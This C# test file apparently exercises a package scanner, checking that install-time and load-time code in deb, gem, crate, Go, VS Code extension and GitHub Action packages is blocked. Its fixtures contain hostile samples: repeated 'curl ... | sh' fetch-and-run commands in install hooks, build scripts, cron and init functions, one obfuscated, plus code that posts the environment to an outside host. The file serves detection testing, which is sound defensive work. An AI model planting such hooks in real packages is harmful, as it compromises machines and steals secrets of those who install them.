using Wellguard.Artifacts;
using Wellguard.Reports;
using Wellguard.Signals;
using Wellguard.Verdicts;
using Xunit;

namespace Wellguard.Tests.Packages;

/// <summary>Packages of the other ecosystems: what they are, and what of them runs without being called.</summary>
public sealed class PackageFormatTests
{
    private const string Specification = "--- !ruby/object:Gem::Specification\nname: example\nversion: !ruby/object:Gem::Version\n  version: 1.0.0\nplatform: ruby\nbindir: exe\nexecutables:\n- run\nextensions:\n- ext/example/extconf.rb\nrequire_paths:\n- lib\ndependencies:\n- !ruby/object:Gem::Dependency\n  name: rake\n  requirement: !ruby/object:Gem::Requirement\n    requirements:\n    - - \">=\"\n      - !ruby/object:Gem::Version\n        version: '12'\n  type: :runtime\n";
    private const string Fetches = "#!/bin/sh\nset -e\ncurl -s http://192.0.2.9/x | sh\n";
    private const string RubyFetches = "require 'mkmf'\nsystem('curl -s http://192.0.2.9/x | sh')\n";
    private const string PythonFetches = "import os\nos.system('curl -s http://192.0.2.9/x | sh')\nx = 1\n";
    private const string Steals = "const https = require('https')\nconst out = https.request({ host: 'collect.example', path: '/u', method: 'POST' })\nout.end(JSON.stringify(process.env))\n";
    private const string Cargo = "[package]\nname = \"example\"\nversion = \"1.0.0\"\n\n[dependencies.serde]\nversion = \"1.0\"\n";
    private const string RustFetches = "use std::process::Command;\n\nfn main() {\n    Command::new(\"sh\")\n        .arg(\"-c\")\n        .arg(\"curl -s http://192.0.2.9/x | sh\")\n        .spawn()\n        .unwrap();\n}\n";
    private const string GoFetches = "package example\n\nimport (\n\t\"os/exec\"\n)\n\nfunc init() {\n\texec.Command(\"/bin/sh\", \"-c\", \"curl -s http://192.0.2.9/x | sh\").Start()\n}\n";
    private const string Composite = "name: x\nruns:\n  using: composite\n  steps:\n    - shell: bash\n      run: |\n        set -e\n        curl -s http://192.0.2.9/x | sh\n";
    private const string Node = "name: x\nruns:\n  using: node20\n  main: dist/index.js\n  post: dist/post.js\n";

    public static TheoryData<string, string, int, string, string, string[]> Triggers => new()
    {
        { "dpkg runs it before the package is installed", "DEBIAN/preinst", 3, "deb", "", ["preinst", Fetches] },
        { "dpkg runs it when the package is installed", "DEBIAN/postinst", 3, "deb", "", ["postinst", Fetches] },
        { "dpkg runs it before the package is removed or updated", "DEBIAN/prerm", 3, "deb", "", ["prerm", Fetches] },
        { "dpkg runs it when the package is removed or updated", "DEBIAN/postrm", 3, "deb", "", ["postrm", Fetches] },
        { "debconf runs it before the package is installed", "DEBIAN/config", 3, "deb", "", ["config", Fetches] },
        { "systemd", "usr/lib/systemd/system/x.service", 4, "deb data", "", ["./usr/lib/systemd/system/x.service", "[Unit]\nDescription=x\n[Service]\nExecStart=/bin/sh -c \"curl -s http://192.0.2.9/x | sh\"\n[Install]\nWantedBy=multi-user.target\n"] },
        { "cron", "etc/cron.d/x", 1, "deb data", "", ["./etc/cron.d/x", "* * * * * root curl -s http://192.0.2.9/x | sh\n"] },
        { "runs at every login", "etc/profile.d/x.sh", 1, "deb data", "", ["./etc/profile.d/x.sh", "curl -s http://192.0.2.9/x | sh\n"] },
        { "runs when it is imported", "usr/lib/python3/dist-packages/example/__init__.py", 2, "deb data", "", ["./usr/lib/python3/dist-packages/example/__init__.py", PythonFetches] },
        { "runs when it is imported", "usr/lib/python3/dist-packages/example.py", 2, "deb data", "", ["./usr/lib/python3/dist-packages/example.py", PythonFetches] },
        { "runs when it is imported", "usr/lib/python3/dist-packages/example/e.py", 2, "deb data", "", ["./usr/lib/python3/dist-packages/example/__init__.py", "from .a import x\n", "./usr/lib/python3/dist-packages/example/a.py", "from .b import x\n", "./usr/lib/python3/dist-packages/example/b.py", "from .c import x\n", "./usr/lib/python3/dist-packages/example/c.py", "from .d import x\n", "./usr/lib/python3/dist-packages/example/d.py", "from .e import x\n", "./usr/lib/python3/dist-packages/example/e.py", PythonFetches] },
        { "gem runs it when the package is installed", "ext/example/extconf.rb", 2, "gem", Specification, ["ext/example/extconf.rb", RubyFetches, "lib/example.rb", ""] },
        { "every command of gem loads it", "lib/rubygems_plugin.rb", 2, "gem", Specification, ["lib/rubygems_plugin.rb", RubyFetches] },
        { "runs when it is required", "lib/example.rb", 2, "gem", Specification, ["lib/example.rb", RubyFetches] },
        { "runs when it is required", "lib/example/deep.rb", 2, "gem", Specification, ["lib/example.rb", "require 'example/deep'\n", "lib/example/deep.rb", RubyFetches] },
        { "runs as the command run", "exe/run", 3, "gem", Specification, ["exe/run", "#!/usr/bin/env ruby\n\n`curl -s http://192.0.2.9/x | sh`\n"] },
        { "cargo runs it in every build", "example-1.0.0/build.rs", 4, "crate", "", ["example-1.0.0/Cargo.toml", Cargo, "example-1.0.0/build.rs", RustFetches] },
        { "cargo runs it in every build", "example-1.0.0/tools/make.rs", 4, "crate", "", ["example-1.0.0/Cargo.toml", Cargo.Replace("1.0.0\"\n", "1.0.0\"\nbuild = \"tools/make.rs\"\n", StringComparison.Ordinal), "example-1.0.0/tools/make.rs", RustFetches] },
        { "the compiler loads it in every build", "example-1.0.0/src/lib.rs", 5, "crate", "", ["example-1.0.0/Cargo.toml", Cargo + "[lib]\nproc-macro = true\n", "example-1.0.0/src/lib.rs", "use proc_macro::TokenStream;\n\n#[proc_macro]\npub fn example(input: TokenStream) -> TokenStream {\n    std::process::Command::new(\"sh\").args([\"-c\", \"curl -s http://192.0.2.9/x | sh\"]).status().unwrap();\n    input\n}\n"] },
        { "runs when what imports it starts", "example.com/a/b@v1.0.0/b.go", 8, "go", "", ["example.com/a/b@v1.0.0/go.mod", "module example.com/a/b\n\nrequire example.com/c v1.2.3\n", "example.com/a/b@v1.0.0/b.go", GoFetches] },
        { "runs when what imports it starts", "example.com/a/b@v1.0.0/b.go", 6, "go", "", ["example.com/a/b@v1.0.0/go.mod", "module example.com/a/b\n", "example.com/a/b@v1.0.0/b.go", "package b\n\nimport \"os/exec\"\n\nvar parts = []string{\"c\", \"u\", \"r\", \"l\", \" http://192.0.2.9/x\", \"|\", \"sh\"}\nvar run = exec.Command(\"/bin/sh\", \"-c\", parts[0]+parts[1]+parts[2]+parts[3]+parts[4]+parts[5]+parts[6]).Start()\n"] },
        { "runs when the editor activates the extension", "extension/out/main.js", 2, "vsix", """{"publisher":"somebody","name":"example","version":"1.0.0","main":"./out/main","activationEvents":["onLanguage:go"]}""", ["extension/out/main.js", Steals] },
        { "runs whenever the editor starts", "extension/out/main.js", 2, "vsix", """{"publisher":"somebody","name":"example","version":"1.0.0","main":"./out/main.js","activationEvents":["*"]}""", ["extension/out/main.js", Steals] },
        { "runs whenever the editor in a browser starts", "extension/web.js", 2, "vsix", """{"publisher":"somebody","name":"example","version":"1.0.0","browser":"web.js","activationEvents":["onStartupFinished"]}""", ["extension/web.js", Steals] },
        { "runs as a step of the workflow", "x-1/action.yml", 8, "tgz", "", ["x-1/action.yml", Composite] },
        { "runs as a step of the workflow", "x-1/dist/index.js", 2, "tgz", "", ["x-1/action.yml", Node, "x-1/package.json", """{"name":"x"}""", "x-1/dist/index.js", Steals] },
        { "runs after the steps of the workflow", "x-1/dist/post.js", 2, "tgz", "", ["x-1/action.yml", Node, "x-1/dist/index.js", "", "x-1/dist/post.js", Steals] },
        { "runs as a step of the workflow, in the action's image", "x-1/run.sh", 3, "tgz", "", ["x-1/action.yml", "name: x\nruns:\n  using: docker\n  image: Dockerfile\n  entrypoint: run.sh\n", "x-1/Dockerfile", "FROM scratch\n", "x-1/run.sh", Fetches] },
        { "npm runs it when the package is installed: postinstall", "x-1/package.json", 1, "tgz", "", ["x-1/action.yml", Node, "x-1/package.json", """{"name":"x","scripts":{"postinstall":"curl -s http://192.0.2.9/x | sh"}}"""] },
    };

    [Theory]
    [MemberData(nameof(Triggers))]
    public async Task What_runs_without_being_called_is_blocked_and_says_how(string trigger, string path, int line, string form, string manifest, string[] files)
    {
        var report = await PackageForms.ScanAsync(Package(form, manifest, files), form == "crate" ? "example-1.0.0.crate" : "package");
        Assert.True(report.Verdict.Decision == Decision.Block, report.Verdict.Decision + " " + string.Join(" ", report.Signals.Select(static signal => $"{signal.Rule}:{signal.Severity}:{signal.Where.Path}:{signal.Where.Line}:{signal.Trigger}")) + string.Join(' ', report.Completeness.Reasons));
        var strongest = report.Signals[0];
        Assert.Equal((path, line), (strongest.Where.Path, strongest.Where.Line));
        Assert.Contains(trigger, strongest.Trigger, StringComparison.Ordinal);
        Assert.Equal(ArtifactKind.Package, report.Artifact.Kind);
        Assert.StartsWith("sha256:", report.Artifact.Digest, StringComparison.Ordinal);
        Assert.StartsWith("pkg:", report.Artifact.Purl, StringComparison.Ordinal);
        Assert.True(report.Tree.Nodes.Count > 1);
    }

    [Theory]
    [InlineData("deb", "pkg:deb/example@1.0-1")]
    [InlineData("gem", "pkg:gem/example@1.0.0")]
    [InlineData("crate", "pkg:cargo/example@1.0.0")]
    [InlineData("go", "pkg:golang/example.com/a/b@v1.0.0")]
    [InlineData("vsix", "pkg:vscode-extension/somebody/example@1.0.0")]
    [InlineData("tgz", "pkg:githubactions/x-1")]
    public async Task Each_has_the_name_that_its_ecosystem_gives_it(string form, string purl)
    {
        var (manifest, files) = form switch
        {
            "deb" => ("", (string[])["postinst", "#!/bin/sh\nexit 0\n"]),
            "gem" => (Specification, ["lib/example.rb", "puts 1\n"]),
            "crate" => ("", ["example-1.0.0/Cargo.toml", Cargo, "example-1.0.0/src/lib.rs", "pub fn f() {}\n"]),
            "go" => ("", ["example.com/a/b@v1.0.0/go.mod", "module example.com/a/b\n"]),
            "vsix" => ("""{"publisher":"somebody","name":"example","version":"1.0.0","main":"./out/main.js"}""", ["extension/out/main.js", "exports.activate = () => 1\n"]),
            _ => ("", ["x-1/action.yml", Composite.Replace("curl -s http://192.0.2.9/x | sh", "echo 1", StringComparison.Ordinal)]),
        };
        var report = await PackageForms.ScanAsync(Package(form, manifest, files));
        Assert.Equal(purl, report.Artifact.Purl);
        Assert.Equal((Decision.Allow, CompletenessState.Complete), (report.Verdict.Decision, report.Completeness.State));
        Assert.Empty(report.Signals);
    }

    [Fact]
    public async Task A_folder_with_an_action_is_the_action_and_one_without_is_a_workspace()
    {
        using var folder = new TempFolder();
        folder.Write("act/action.yml", Composite);
        folder.Write("other/x.py", "print(1)\n");
        folder.Write("b@v1.0.0/go.mod", "module example.com/a/b\n");
        folder.Write("b@v1.0.0/b.go", GoFetches);
        var action = await PackageForms.ScanFolderAsync(folder.At("act"));
        Assert.Equal((ArtifactKind.Package, "act", "action.yml", 8), (action.Artifact.Kind, action.Artifact.Name, action.Signals[0].Where.Path, action.Signals[0].Where.Line));
        var module = await PackageForms.ScanFolderAsync(folder.At("b@v1.0.0"));
        Assert.Equal(("pkg:golang/example.com/a/b@v1.0.0", Decision.Block), (module.Artifact.Purl, module.Verdict.Decision));
        Assert.Equal(ArtifactKind.Workspace, (await PackageForms.ScanFolderAsync(folder.At("other"))).Artifact.Kind);
    }

    /// <summary>Nothing vouches for a package: the folders of a distro are as any other.</summary>
    [Theory]
    [InlineData("usr/lib/python3/dist-packages/example/deep/tool.py", "import os\n\ndef run():\n    getattr(os, 'sys' + 'tem')('curl -s http://192.0.2.9/x | sh')\n")]
    [InlineData("usr/share/python3/example/tool.py", "import os\n\ndef run():\n    os.system('curl -s http://192.0.2.9/x | sh')\n")]
    [InlineData("usr/share/nodejs/example/tool.js", "const c = require('child_process')\nexports.run = () =>\n\n  c.execSync('curl -s http://192.0.2.9/x | sh')\n")]
    [InlineData("usr/share/perl5/Example.pm", "package Example;\nsub run {\n\n    system('curl -s http://192.0.2.9/x | sh');\n}\n1;\n")]
    [InlineData("usr/lib/ruby/vendor_ruby/example.rb", "module Example\n  def self.run\n\n    system('curl -s http://192.0.2.9/x | sh')\n  end\nend\n")]
    public async Task What_a_package_puts_into_a_folder_of_the_distro_is_read(string path, string code)
    {
        var report = await PackageForms.ScanAsync(PackageForms.Debian([], "./" + path, code));
        Assert.Equal((Decision.Block, "content/runs-downloaded-code", path, 4), (report.Verdict.Decision, report.Signals[0].Rule, report.Signals[0].Where.Path, report.Signals[0].Where.Line));
    }

    [Theory]
    [InlineData("phar://' . __FILE__ . '/'", Decision.Allow)]
    [InlineData("http://192.0.2.9/'", Decision.Block)]
    public async Task A_command_of_PHP_may_load_its_own_archive_and_no_address(string from, Decision decision)
    {
        var report = await PackageForms.ScanAsync(PackageForms.Debian([], "./usr/bin/example", $"#!/usr/bin/php\n<?php\nfunction load($file)\n{{\n    include('{from} . $file);\n}}\nload('x.inc');\n"));
        Assert.Equal(decision, report.Verdict.Decision);
    }

    [Theory]
    [InlineData("func Fetch() {\n\texec.Command(\"/bin/sh\", \"-c\", \"ls\").Run()\n}\n")]
    [InlineData("func Get(u string) (*http.Response, error) {\n\treturn http.Get(u)\n}\n")]
    [InlineData("func init() {\n\tif v := os.Getenv(\"EXAMPLE_DEBUG\"); v != \"\" {\n\t\tdebug = true\n\t}\n}\n")]
    public async Task Libraries_of_Go_that_others_call_are_quiet(string code)
    {
        var report = await PackageForms.ScanAsync(Package("go", "", ["example.com/a/b@v1.0.0/go.mod", "module example.com/a/b\n", "example.com/a/b@v1.0.0/b.go", "package b\n\nimport (\n\t\"net/http\"\n\t\"os\"\n\t\"os/exec\"\n)\n\n" + code]));
        Assert.Equal(Decision.Allow, report.Verdict.Decision);
    }

    [Theory]
    [InlineData("fn main() {\n    println!(\"cargo:rerun-if-changed=build.rs\");\n    let out = std::env::var(\"OUT_DIR\").unwrap();\n    std::fs::write(format!(\"{}/version.rs\", out), \"1\").unwrap();\n    let rustc = std::env::var(\"RUSTC\").unwrap();\n    let v = std::process::Command::new(rustc).arg(\"--version\").output().unwrap();\n}\n")]
    [InlineData("fn main() {\n    std::process::Command::new(\"pkg-config\").args(&[\"--libs\", \"openssl\"]).output().expect(\"no pkg-config\");\n    cc::Build::new().file(\"src/a.c\").compile(\"a\");\n}\n")]
    public async Task Build_scripts_that_ask_the_compiler_are_quiet(string code)
    {
        var report = await PackageForms.ScanAsync(Package("crate", "", ["example-1.0.0/Cargo.toml", Cargo, "example-1.0.0/build.rs", code]), "example-1.0.0.crate");
        Assert.True(report.Verdict.Decision == Decision.Allow, string.Join(" ", report.Signals.Select(static signal => signal.Rule)));
    }

    [Fact]
    public async Task A_build_script_that_sends_the_environment_is_blocked()
    {
        const string Sends = "fn main() {\n    let all: Vec<(String, String)> = std::env::vars().collect();\n    let client = reqwest::blocking::Client::new();\n    client\n        .post(\"http://192.0.2.9/u\")\n        .json(&all)\n        .send()\n        .unwrap();\n}\n";
        var report = await PackageForms.ScanAsync(Package("crate", "", ["example-1.0.0/Cargo.toml", Cargo, "example-1.0.0/build.rs", Sends]), "example-1.0.0.crate");
        Assert.Equal(Decision.Block, report.Verdict.Decision);
        Assert.Equal("example-1.0.0/build.rs", report.Signals[0].Where.Path);
    }

    [Fact]
    public async Task A_module_that_sends_the_environment_when_it_is_loaded_is_blocked()
    {
        const string Sends = "package b\n\nimport (\n\t\"bytes\"\n\t\"encoding/json\"\n\th \"net/http\"\n\t\"os\"\n)\n\nfunc init() {\n\tbody, _ := json.Marshal(os.Environ())\n\th.Post(\"http://192.0.2.9/u\", \"application/json\", bytes.NewReader(body))\n}\n";
        var report = await PackageForms.ScanAsync(Package("go", "", ["example.com/a/b@v1.0.0/go.mod", "module example.com/a/b\n", "example.com/a/b@v1.0.0/b.go", Sends]));
        Assert.Equal(Decision.Block, report.Verdict.Decision);
        Assert.Equal(("example.com/a/b@v1.0.0/b.go", 12), (report.Signals[0].Where.Path, report.Signals[0].Where.Line));
    }

    private static byte[] Package(string form, string manifest, string[] files) => form switch
    {
        "deb" => PackageForms.Debian(files),
        "deb data" => PackageForms.Debian([], files),
        "gem" => PackageForms.Gem(manifest, files),
        "vsix" => PackageForms.Extension(manifest, files),
        "go" => PackageForms.Zip(files),
        _ => PackageForms.Gzip(PackageForms.Tar(files)),
    };
}
